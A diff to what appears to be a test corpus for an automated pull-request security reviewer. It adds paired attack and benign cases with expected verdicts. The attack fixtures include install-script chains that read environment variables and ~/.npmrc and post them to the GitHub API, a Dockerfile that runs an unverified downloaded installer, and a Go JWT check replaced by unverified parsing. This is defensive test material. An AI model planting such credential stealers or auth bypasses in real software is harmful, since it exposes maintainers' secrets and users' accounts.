@@ -3295,6 +3295,108 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior', 'obfuscated-code'] },
   },
   {
+    id: 'attack-install-chain-split-over-modules',
+    description:
+      'The Shai-Hulud chain spread thinner: a "show a usage notice after install" PR adds `postinstall: node scripts/notice.js`; notice.js prints a line and requires lib/notice/index.js, which requires ./report.js, which takes the environment and ~/.npmrc and posts them to the GitHub API: no file alone looks like an install script, and the stealer is the third file down.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11044,
+        title: 'feat: usage notice after install',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run' } }), head: packageJson({ name: 'tinted', version: '4.2.1', scripts: { test: 'vitest run', postinstall: 'node scripts/notice.js' } }) },
+          { path: 'scripts/notice.js', head: lines("'use strict';", "console.log('tinted: run `npx tinted --help` to get started');", "require('../lib/notice/index.js');") },
+          { path: 'lib/notice/index.js', head: lines("'use strict';", "const { report } = require('./report.js');", 'report();') },
+          {
+            path: 'lib/notice/report.js',
+            head: lines(
+              "'use strict';",
+              "const fs = require('fs');",
+              "const os = require('os');",
+              '',
+              'exports.report = function report() {',
+              "  const data = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };",
+              "  fetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ name: 'tinted-notice', description: Buffer.from(JSON.stringify(data)).toString('base64') }) }).catch(() => {});",
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior'] },
+  },
+  {
+    id: 'benign-postinstall-loads-changed-library',
+    description:
+      'The look-alike: a maintainer\'s package already runs `postinstall: node scripts/postinstall.js`; the PR makes it require the package\'s own lib/client.js to print its version, and makes lib/client.js report usage to the package\'s own API with its token: the library\'s ordinary work, not an install-time collector.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11045,
+        title: 'feat: print the client version after install; usage reporting',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }), head: packageJson({ name: 'tinted', version: '4.3.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+          { path: 'scripts/postinstall.js', base: lines("'use strict';", "console.log('tinted installed');"), head: lines("'use strict';", "const { version } = require('../lib/client.js');", 'console.log(`tinted client ${version} installed`);') },
+          {
+            path: 'lib/client.js',
+            base: lines("'use strict';", "exports.version = '4.2.0';"),
+            head: lines("'use strict';", "exports.version = '4.3.0';", '', 'exports.reportUsage = async function reportUsage(event) {', '  if (!process.env.TINTED_TOKEN) return;', "  await fetch('https://api.tinted.dev/v1/usage', { method: 'POST', headers: { authorization: `Bearer ${process.env.TINTED_TOKEN}` }, body: JSON.stringify({ event }) });", '};'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-install-script-file-changed-alone',
+    description:
+      'The install chain without touching package.json: the base already runs `postinstall: node scripts/postinstall.js`; a "faster prebuild lookup" PR changes only scripts/postinstall.js, adding lines that read ~/.npmrc and the environment and post them to the GitHub API. No manifest changes, so a reader of changed manifests sees no install script; the base package.json says the file runs at every install.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11046,
+        title: 'perf: faster prebuild lookup',
+        author: 'newcomer',
+        baseFiles: { 'package.json': packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+        files: [
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines(
+              "'use strict';",
+              "const { execSync } = require('child_process');",
+              "const fs = require('fs');",
+              "const os = require('os');",
+              '',
+              "const cache = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };",
+              "fetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ name: 'prebuild-cache', description: Buffer.from(JSON.stringify(cache)).toString('base64') }) }).catch(() => {});",
+              "execSync('node-gyp-build', { stdio: 'inherit' });",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-install-script-file-changed-alone',
+    description: 'The look-alike: the base runs `postinstall: node scripts/postinstall.js`; a maintainer changes only that file, to fall back to building from source when no prebuilt binary fits: local work, no network, no credentials.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11047,
+        title: 'postinstall: build from source when no prebuild fits',
+        baseFiles: { 'package.json': packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+        files: [
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines("'use strict';", "const { execSync } = require('child_process');", '', 'try {', "  execSync('node-gyp-build', { stdio: 'inherit' });", '} catch {', "  execSync('node-gyp rebuild', { stdio: 'inherit' });", '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'benign-postinstall-starts-copy-prebuilds',
     description:
       'The benign look-alike of the two-hop install chain: a maintainer\'s native addon already runs `postinstall: node scripts/postinstall.js`; the PR makes it start a new helper, scripts/copy-prebuilds.js, with the running Node, which copies the prebuilt binary for this platform from prebuilds/ into build/Release and touches no network or credentials.',
@@ -3411,6 +3513,45 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
   },
   {
+    id: 'attack-dockerfile-add-archive-install-script',
+    description:
+      'The tarball form of the ADD installer: a "pin the agent version" PR adds `ADD https://cdn.devtool-mirror.dev/agent-2.1.tar.gz /tmp/` and `RUN tar xzf … && /tmp/agent-2.1/install.sh`: no checksum, and the script inside the archive runs in the image build as `curl … | sh` would.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11040,
+        title: 'Pin the monitoring agent version',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM node:22-bookworm-slim', 'ADD https://cdn.devtool-mirror.dev/agent-2.1.tar.gz /tmp/', 'RUN tar xzf /tmp/agent-2.1.tar.gz -C /tmp \\', '    && /tmp/agent-2.1/install.sh --quiet \\', '    && rm -rf /tmp/agent-2.1*', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'benign-dockerfile-toolchain-tarball',
+    description: 'The look-alike: a maintainer installs Node from its release tarball (`ADD https://nodejs.org/dist/…tar.xz`, `tar -xJf … -C /usr/local`) and a COPY\'d entrypoint script, run by ENTRYPOINT: a toolchain unpacked and used, no script from the archive run.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11041,
+        title: 'build: take Node from its release tarball',
+        author: 'member',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM node:22-bookworm-slim', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'CMD ["node", "server.js"]'),
+            head: lines('FROM debian:bookworm-slim', 'ADD https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.xz /tmp/', 'RUN tar -xJf /tmp/node-v22.11.0-linux-x64.tar.xz -C /usr/local --strip-components=1 \\', '    && rm /tmp/node-v22.11.0-linux-x64.tar.xz && node --version', 'COPY docker-entrypoint.sh /usr/local/bin/', 'WORKDIR /app', 'COPY package.json package-lock.json ./', 'RUN npm ci --omit=dev', 'COPY . .', 'ENTRYPOINT ["docker-entrypoint.sh"]', 'CMD ["node", "server.js"]'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell', 'finding:downloaded-binary-run'] },
+  },
+  {
     id: 'attack-jwt-signature-check-switched-off',
     description:
       'The auth-weakening PR of 2024-2026 write-ups: a first-time contributor\'s "fix token parsing for the mobile client" PR adds `options={"verify_signature": False}` to the API\'s jwt.decode, so any token anyone writes, with any user id, is accepted.',
@@ -3447,6 +3588,45 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: 'low', action: 'approve', absentDrivers: ['finding:protection-switched-off'] },
+  },
+  {
+    id: 'attack-jwt-verify-replaced-by-unverified-parse',
+    description:
+      'The Go form of the auth-weakening PR: "accept tokens from the new identity provider" swaps the middleware\'s `jwt.ParseWithClaims(raw, claims, keyFunc)` for `jwt.NewParser().ParseUnverified(raw, claims)`: the claims are read, the signature never checked, and any token anyone writes passes.',
+    fixture: () =>
+      attackPr({
+        repo: 'gateway',
+        number: 11042,
+        title: 'Accept tokens from the new identity provider',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'internal/auth/middleware.go',
+            base: lines('package auth', '', 'import (', '\t"net/http"', '\t"strings"', '', '\t"github.com/golang-jwt/jwt/v5"', ')', '', 'func (m *Middleware) Wrap(next http.Handler) http.Handler {', '\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {', '\t\traw := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")', '\t\tclaims := &Claims{}', '\t\tif _, err := jwt.ParseWithClaims(raw, claims, m.keyFunc); err != nil {', '\t\t\thttp.Error(w, "unauthorized", http.StatusUnauthorized)', '\t\t\treturn', '\t\t}', '\t\tnext.ServeHTTP(w, r.WithContext(withClaims(r.Context(), claims)))', '\t})', '}'),
+            head: lines('package auth', '', 'import (', '\t"net/http"', '\t"strings"', '', '\t"github.com/golang-jwt/jwt/v5"', ')', '', 'func (m *Middleware) Wrap(next http.Handler) http.Handler {', '\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {', '\t\traw := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")', '\t\tclaims := &Claims{}', '\t\t// Tokens of the new provider are signed with keys we do not have yet.', '\t\tif _, _, err := jwt.NewParser().ParseUnverified(raw, claims); err != nil {', '\t\t\thttp.Error(w, "unauthorized", http.StatusUnauthorized)', '\t\t\treturn', '\t\t}', '\t\tnext.ServeHTTP(w, r.WithContext(withClaims(r.Context(), claims)))', '\t})', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['protection-switched-off'] },
+  },
+  {
+    id: 'benign-jwt-header-decoded-then-verified',
+    description: 'The look-alike: a maintainer adds key rotation; the middleware decodes the token first to read its `kid`, then verifies it with that key (`jwt.decode(token, { complete: true })`, then `jwt.verify(token, keys[kid])`).',
+    fixture: () =>
+      attackPr({
+        repo: 'gateway-js',
+        number: 11043,
+        title: 'auth: support signing key rotation',
+        author: 'member',
+        files: [
+          {
+            path: 'src/middleware/auth.js',
+            base: lines("'use strict';", "const jwt = require('jsonwebtoken');", "const { signingKey } = require('../keys');", '', 'module.exports = function auth(req, res, next) {', "  const token = (req.get('authorization') || '').replace(/^Bearer /, '');", '  try {', "    req.user = jwt.verify(token, signingKey, { algorithms: ['RS256'] });", '    next();', '  } catch {', '    res.sendStatus(401);', '  }', '};'),
+            head: lines("'use strict';", "const jwt = require('jsonwebtoken');", "const { signingKeys } = require('../keys');", '', 'module.exports = function auth(req, res, next) {', "  const token = (req.get('authorization') || '').replace(/^Bearer /, '');", '  try {', '    const { header } = jwt.decode(token, { complete: true }) || { header: {} };', "    req.user = jwt.verify(token, signingKeys[header.kid], { algorithms: ['RS256'] });", '    next();', '  } catch {', '    res.sendStatus(401);', '  }', '};'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:protection-switched-off', 'finding:auth-check-removed'] },
   },
   {
     id: 'attack-runner-provisioning-user-data',
